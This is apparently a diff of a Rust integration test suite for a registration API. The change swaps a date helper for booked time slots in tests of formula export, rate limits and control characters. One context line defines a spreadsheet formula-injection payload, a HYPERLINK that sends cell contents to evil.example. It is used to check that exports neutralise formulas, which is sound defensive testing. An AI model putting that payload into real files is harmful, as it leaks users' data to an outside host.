@@ -28,24 +28,18 @@ both_backends!(
 
 const ATTACK: &str = r#"=HYPERLINK("http://evil.example/?d="&B2,"Klik")"#;
 
-fn in_days(days: i64) -> String {
-    (chrono::Utc::now() + chrono::Duration::hours(7) + chrono::Duration::days(days))
-        .format("%Y-%m-%d")
-        .to_string()
-}
-
 async fn active_package(app: &TestApp) -> anyhow::Result<Value> {
     Ok(app.get_json("/api/v1/packages?active=true").await?.1["items"][0]["id"].clone())
 }
 
 /// A registration inside the Bandung service area.
-fn registration(package: &Value, name: &str, phone: &str) -> Value {
+fn registration(package: &Value, name: &str, phone: &str, slot: &(String, String)) -> Value {
     json!({
         "name": name, "phone": phone, "email": null,
         "address": "Jl. Tubagus Ismail No. 8, Coblong",
         "location": {"lat": -6.8850, "lng": 107.6200},
-        "package_id": package, "preferred_date": in_days(4),
-        "preferred_window": "13:00-17:00", "password": "kopi susu gula aren", "website": ""
+        "package_id": package, "preferred_date": slot.0,
+        "preferred_window": slot.1, "password": "kopi susu gula aren", "website": ""
     })
 }
 
@@ -91,10 +85,11 @@ async fn exported_formulas_are_neutralised_and_import_back_unchanged(
     app: &TestApp,
 ) -> anyhow::Result<()> {
     let package = active_package(app).await?;
+    let slot = app.open_windows(-6.8850, 107.6200, 1).await?.remove(0);
     let registered = app
         .client
         .post(app.url("/api/v1/registrations"))
-        .json(&registration(&package, ATTACK, "0812 7777 0001"))
+        .json(&registration(&package, ATTACK, "0812 7777 0001", &slot))
         .send()
         .await?;
     assert_eq!(registered.status(), 201);
@@ -198,7 +193,8 @@ async fn refused_registrations_count_toward_a_limit(app: &TestApp) -> anyhow::Re
         .find(|a| a.role == "customer")
         .map(|a| a.login.clone())
         .ok_or_else(|| anyhow::anyhow!("no demo customer"))?;
-    let body = registration(&package, "Budi Santoso", &taken);
+    let slot = app.open_windows(-6.8850, 107.6200, 1).await?.remove(0);
+    let body = registration(&package, "Budi Santoso", &taken, &slot);
     let results = in_parallel(
         &app.client,
         Method::POST,
@@ -228,7 +224,7 @@ async fn refused_registrations_count_toward_a_limit(app: &TestApp) -> anyhow::Re
     let good = app
         .client
         .post(app.url("/api/v1/registrations"))
-        .json(&registration(&package, "Siti", "0812 7777 0002"))
+        .json(&registration(&package, "Siti", "0812 7777 0002", &slot))
         .send()
         .await?;
     assert_problem(good, 429, "/problems/too-many-requests").await?;
@@ -237,12 +233,17 @@ async fn refused_registrations_count_toward_a_limit(app: &TestApp) -> anyhow::Re
 
 async fn parallel_registrations_cannot_pass_the_hourly_limit(app: &TestApp) -> anyhow::Result<()> {
     let package = active_package(app).await?;
-    let bodies = (0..8)
-        .map(|n| {
+    // Each in a window of its own, so that room is never what stops one.
+    let slots = app.open_windows(-6.8850, 107.6200, 8).await?;
+    let bodies = slots
+        .iter()
+        .enumerate()
+        .map(|(n, slot)| {
             Some(registration(
                 &package,
                 "Budi Santoso",
                 &format!("0812 7777 10{n:02}"),
+                slot,
             ))
         })
         .collect();
@@ -466,7 +467,8 @@ async fn control_characters_are_refused_in_every_text(app: &TestApp) -> anyhow::
     };
 
     // Anonymous registration: a NUL (which PostgreSQL cannot store).
-    let body = registration(&package, "Budi\u{0}Santoso", "0812 7777 2001");
+    let slot = app.open_windows(-6.8850, 107.6200, 1).await?.remove(0);
+    let body = registration(&package, "Budi\u{0}Santoso", "0812 7777 2001", &slot);
     let response = app
         .client
         .post(app.url("/api/v1/registrations"))
